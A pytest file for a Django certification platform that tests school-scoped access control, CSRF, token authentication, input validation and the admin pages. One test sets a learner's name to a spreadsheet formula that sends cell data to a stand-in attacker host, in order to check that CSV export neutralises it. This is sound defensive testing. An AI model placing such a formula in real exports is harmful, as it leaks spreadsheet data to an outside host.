"""School boundaries: a coordinator sees and changes only their own school (api, views, admin, block)."""

from __future__ import annotations

import datetime
import json

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.test import Client

from xblocks.certification import api, models

pytestmark = [pytest.mark.django_db, pytest.mark.mariadb]

HOURS = "/kafaat/certification/api/hours/"
IMPORT = "/kafaat/certification/api/hours/import/"
ATTEST = "/kafaat/certification/api/attestations/"


def _client(user, csrf=False) -> Client:
    client = Client(enforce_csrf_checks=csrf)
    client.force_login(user)
    return client


def _entry(world, cohort, username, **extra):
    return {"cohort": cohort.id, "username": username, "source": "school", "minutes": 60, "date": "2026-02-01"} | extra


# ---------------------------------------------------------------- api


def test_visible_schools_per_role(cert_world, django_user_model):
    school_a = models.School.objects.get(slug="school-a").pk
    assert api.visible_school_ids(cert_world.staff) is None
    assert api.visible_school_ids(cert_world.coordinator_a) == {school_a}  # is_staff, still scoped
    assert api.visible_school_ids(django_user_model.objects.create_user("nobody")) == set()
    assert api.visible_school_ids(cert_world.learner("amina_a")) == set()


def test_can_view_cohort_only_for_own_school(cert_world):
    assert api.can_view_cohort(cert_world.coordinator_a, cert_world.cohort_a.id)
    assert not api.can_view_cohort(cert_world.coordinator_a, cert_world.cohort_b.id)
    assert not api.can_view_cohort(cert_world.coordinator_a, "not-a-number")
    assert api.can_view_cohort(cert_world.staff, cert_world.cohort_b.id)


def test_certificate_records_and_counts_are_scoped(certified):
    mine = [r.learner.username for r in api.iter_certificate_records(certified.coordinator_a)]
    assert mine == ["amina_a"]
    assert api.count_certificate_records(certified.coordinator_b) == 1
    assert (
        list(
            api.iter_certificate_records(
                certified.coordinator_a, school_ids=[models.School.objects.get(slug="school-b").pk]
            )
        )
        == []
    )
    assert api.count_certificate_records(certified.learner("amina_a")) == 0


@pytest.mark.parametrize(
    "call",
    [
        lambda w: api.cohort_roster(w.coordinator_a, w.cohort_b.id),
        lambda w: api.add_hours(
            w.coordinator_a,
            w.learner("lina_b"),
            w.cohort_b.id,
            source="school",
            minutes=5,
            date=datetime.date(2026, 1, 1),
        ),
        lambda w: api.add_attestation(w.coordinator_a, w.learner("lina_b"), w.cohort_b.id, "incident-response"),
        lambda w: api.hours_entries(w.coordinator_a, w.cohort_b.id),
        lambda w: api.set_certificate_status_as(
            w.coordinator_a, models.Certificate.objects.get(user=w.learner("lina_b")).pk, "revoked", reason="x"
        ),
    ],
)
def test_api_refuses_another_schools_cohort(certified, call):
    with pytest.raises(PermissionDenied):
        call(certified)


def test_a_learner_is_not_a_manager(certified):
    with pytest.raises(PermissionDenied):
        api.cohort_roster(certified.learner("amina_a"), certified.cohort_a.id)


# ---------------------------------------------------------------- views


def test_hours_api_posts_into_own_cohort_and_404s_for_the_other(cert_world):
    client = _client(cert_world.coordinator_a)
    ok = client.post(
        HOURS, json.dumps(_entry(cert_world, cert_world.cohort_a, "amina_a")), content_type="application/json"
    )
    assert ok.status_code == 201 and ok.json()["minutes"] == 60
    other = client.post(
        HOURS, json.dumps(_entry(cert_world, cert_world.cohort_b, "lina_b")), content_type="application/json"
    )
    assert other.status_code == 404
    assert client.get(HOURS, {"cohort": cert_world.cohort_b.id}).status_code == 404
    assert [e["minutes"] for e in client.get(HOURS, {"cohort": cert_world.cohort_a.id}).json()["entries"]] == [60]
    assert models.HoursEntry.objects.filter(user=cert_world.learner("lina_b")).count() == 0


def test_hours_api_refuses_learners_anonymous_and_bad_tokens(cert_world, settings):
    body = json.dumps(_entry(cert_world, cert_world.cohort_a, "amina_a"))
    assert Client().post(HOURS, body, content_type="application/json").status_code == 403
    assert _client(cert_world.learner("yanis_a")).post(HOURS, body, content_type="application/json").status_code == 403
    settings.KAFAAT = {**settings.KAFAAT, "CERT_API_TOKENS": {"s3cret-token-a": "coord_a"}}
    wrong = Client().post(HOURS, body, content_type="application/json", HTTP_AUTHORIZATION="Bearer nope")
    assert wrong.status_code == 403
    right = Client().post(HOURS, body, content_type="application/json", HTTP_AUTHORIZATION="Bearer s3cret-token-a")
    assert right.status_code == 201
    other = json.dumps(_entry(cert_world, cert_world.cohort_b, "lina_b"))
    assert (
        Client()
        .post(HOURS, other, content_type="application/json", HTTP_AUTHORIZATION="Bearer s3cret-token-a")
        .status_code
        == 404
    )


def test_session_writes_need_the_csrf_token(cert_world):
    client = _client(cert_world.coordinator_a, csrf=True)
    body = json.dumps(_entry(cert_world, cert_world.cohort_a, "amina_a"))
    assert client.post(HOURS, body, content_type="application/json").status_code == 403
    client.get("/kafaat/certification/hours/")  # sets the csrftoken cookie
    token = client.cookies["csrftoken"].value
    assert client.post(HOURS, body, content_type="application/json", HTTP_X_CSRFTOKEN=token).status_code == 201


def test_hours_api_rejects_bad_input_without_writing(cert_world):
    client = _client(cert_world.coordinator_a)
    bad_inputs = (
        {"minutes": -5},
        {"minutes": "x"},
        {"date": "2999-01-01"},
        {"source": "pub"},
        {"username": "nobody"},
        {"corrects": "abc"},
        {"corrects": 999999, "minutes": -5},
    )
    for bad in bad_inputs:
        response = client.post(
            HOURS, json.dumps(_entry(cert_world, cert_world.cohort_a, "amina_a") | bad), content_type="application/json"
        )
        assert response.status_code == 400, bad
    assert client.post(HOURS, "[1, 2]", content_type="application/json").status_code == 400
    assert not models.HoursEntry.objects.exists()


def test_corrections_are_new_entries_pointing_at_the_original(cert_world):
    client = _client(cert_world.coordinator_a)
    first = client.post(
        HOURS, json.dumps(_entry(cert_world, cert_world.cohort_a, "amina_a")), content_type="application/json"
    ).json()
    fix = client.post(
        HOURS,
        json.dumps(_entry(cert_world, cert_world.cohort_a, "amina_a", minutes=-15, corrects=first["id"])),
        content_type="application/json",
    )
    assert fix.status_code == 201 and fix.json()["corrects"] == first["id"]
    assert sum(models.HoursEntry.objects.values_list("minutes", flat=True)) == 45
    entry = models.HoursEntry.objects.get(pk=first["id"])
    entry.minutes = 1
    with pytest.raises(ValidationError):  # ledger rows are never edited
        entry.save()


def test_import_api_is_scoped(cert_world):
    raw = "username,cohort,source,minutes,date\nlina_b,cloud-b,school,60,2026-02-01\n"
    response = _client(cert_world.coordinator_a).post(IMPORT + "?commit=1", raw, content_type="text/csv")
    assert response.status_code == 400
    assert response.json()["problems"][0]["column"] == "cohort"
    response = _client(cert_world.coordinator_b).post(IMPORT + "?commit=1", raw, content_type="text/csv")
    assert response.status_code == 200 and response.json()["imported"] == 1


def test_attestation_api_is_scoped(cert_world):
    body = {"cohort": cert_world.cohort_b.id, "username": "lina_b", "competency": "incident-response"}
    assert (
        _client(cert_world.coordinator_a).post(ATTEST, json.dumps(body), content_type="application/json").status_code
        == 404
    )
    assert (
        _client(cert_world.coordinator_b).post(ATTEST, json.dumps(body), content_type="application/json").status_code
        == 201
    )


def test_roster_csv_view_is_scoped_and_formula_safe(certified):
    user = certified.learner("amina_a")
    user.first_name = '=HYPERLINK("http://attacker.example/?d="&A1,"x")'
    user.save()
    client = _client(certified.coordinator_a)
    response = client.get(f"/kafaat/certification/roster/{certified.cohort_a.id}.csv")
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    assert "amina_a" in text and "lina_b" not in text
    assert "\"'=HYPERLINK(" in text
    assert client.get(f"/kafaat/certification/roster/{certified.cohort_b.id}.csv").status_code == 404
    assert Client().get(f"/kafaat/certification/roster/{certified.cohort_a.id}.csv").status_code == 403


def test_hours_page_lists_only_own_cohorts_and_refuses_learners(cert_world):
    page = _client(cert_world.coordinator_a).get("/kafaat/certification/hours/")
    assert page.status_code == 200
    html = page.content.decode()
    assert "Cloud A" in html and "Cloud B" not in html
    assert _client(cert_world.learner("amina_a")).get("/kafaat/certification/hours/").status_code == 403
    posted = _client(cert_world.coordinator_a).post(
        "/kafaat/certification/hours/",
        {
            "action": "hours",
            "hours-cohort": cert_world.cohort_b.id,
            "hours-learner": "lina_b",
            "hours-source": "school",
            "hours-minutes": 30,
            "hours-date": "2026-02-01",
        },
    )
    assert posted.status_code == 200
    assert not models.HoursEntry.objects.exists()  # the other school's cohort is not a valid choice


# ---------------------------------------------------------------- admin


@pytest.mark.parametrize(
    "model", ["cohort", "enrollment", "certificate", "hoursentry", "consent", "attestation", "evidence"]
)
def test_admin_changelists_show_only_own_school(certified, model):
    api.add_hours(
        certified.staff,
        certified.learner("lina_b"),
        certified.cohort_b.id,
        source="school",
        minutes=5,
        date=datetime.date(2026, 1, 1),
        note="school-b-only",
    )
    api.set_consent(certified.enrollments["amina_a"], "insurer", True)
    api.set_consent(certified.enrollments["lina_b"], "insurer", True)
    page = _client(certified.coordinator_a).get(f"/admin/kafaat_certification/{model}/")
    assert page.status_code == 200
    html = page.content.decode()
    assert "lina_b" not in html and "Cloud B" not in html
    staff_page = _client(certified.staff).get(f"/admin/kafaat_certification/{model}/")
    assert "lina_b" in staff_page.content.decode() or "Cloud B" in staff_page.content.decode()


@pytest.mark.parametrize(
    "model", ["cohort", "enrollment", "certificate", "hoursentry", "consent", "attestation", "evidence", "school"]
)
def test_admin_change_pages_of_another_school_are_refused(certified, model):
    lina = certified.learner("lina_b")
    api.set_consent(certified.enrollments["lina_b"], "insurer", True)
    target = {
        "cohort": lambda: models.Cohort.objects.get(slug="cloud-b"),
        "enrollment": lambda: models.Enrollment.objects.get(pk=certified.enrollments["lina_b"]),
        "certificate": lambda: models.Certificate.objects.get(user=lina),
        "hoursentry": lambda: models.HoursEntry.objects.filter(user=lina).first(),
        "consent": lambda: models.Consent.objects.get(enrollment_id=certified.enrollments["lina_b"]),
        "attestation": lambda: models.Attestation.objects.filter(user=lina).first(),
        "evidence": lambda: models.Evidence.objects.filter(user=lina).first(),
        "school": lambda: models.School.objects.get(slug="school-b"),
    }[model]()
    client = _client(certified.coordinator_a)
    for action in ("change", "delete", "history"):
        response = client.get(f"/admin/kafaat_certification/{model}/{target.pk}/{action}/")
        assert response.status_code in (302, 403, 404), (action, response.status_code)
        if response.status_code == 302:  # the admin redirects to its index: "does not exist"
            assert f"/{target.pk}/" not in response["Location"]
    posted = client.post(f"/admin/kafaat_certification/{model}/{target.pk}/change/", {})
    assert posted.status_code in (302, 403, 404)
    assert _client(certified.staff).get(f"/admin/kafaat_certification/{model}/{target.pk}/change/").status_code == 200


def test_admin_certificate_actions_cannot_reach_another_school(certified):
    theirs = models.Certificate.objects.get(user=certified.learner("lina_b"))
    mine = models.Certificate.objects.get(user=certified.learner("amina_a"))
    client = _client(certified.coordinator_a)
    page = client.post(
        "/admin/kafaat_certification/certificate/", {"action": "suspend", "_selected_action": [theirs.pk, mine.pk]}
    )
    # the confirmation page lists only the coordinator's own certificate
    assert mine.number in page.content.decode() and theirs.number not in page.content.decode()
    client.post(
        "/admin/kafaat_certification/certificate/",
        {"action": "suspend", "_selected_action": [theirs.pk, mine.pk], "confirm": "yes", "reason": "fees"},
    )
    assert models.Certificate.objects.get(pk=theirs.pk).status == "active"
    assert models.Certificate.objects.get(pk=mine.pk).status == "suspended"


def test_published_track_versions_are_read_only_in_the_admin(certified):
    version = models.TrackVersion.objects.filter(published=True).first()
    client = _client(certified.staff)
    page = client.get(f"/admin/kafaat_certification/trackversion/{version.pk}/change/")
    assert page.status_code == 200
    assert 'name="title"' not in page.content.decode()  # every field read-only
    coordinator_page = _client(certified.coordinator_a).post(
        f"/admin/kafaat_certification/trackversion/{version.pk}/change/", {"title": "hacked"}
    )
    assert coordinator_page.status_code == 403
    assert models.TrackVersion.objects.get(pk=version.pk).title != "hacked"


# ---------------------------------------------------------------- block


def test_block_roster_handlers_are_scoped(certified, cert_block):
    block = cert_block("coord_a")
    status, body = block.call("roster", {"cohort": certified.cohort_a.id})
    assert status == 200 and [r["username"] for r in body["rows"]] == ["amina_a", "yanis_a"]
    status, body = block.call("roster", {"cohort": certified.cohort_b.id})
    assert body == {"error": "forbidden", "rows": []}
    assert block.get("roster_csv", f"cohort={certified.cohort_b.id}").status_code == 403
    assert block.get("roster_csv", f"cohort={certified.cohort_a.id}").status_code == 200
    learner = cert_block("amina_a")
    assert learner.call("roster", {"cohort": certified.cohort_a.id})[1]["error"] == "forbidden"
    assert learner.get("roster_csv", f"cohort={certified.cohort_a.id}").status_code == 403
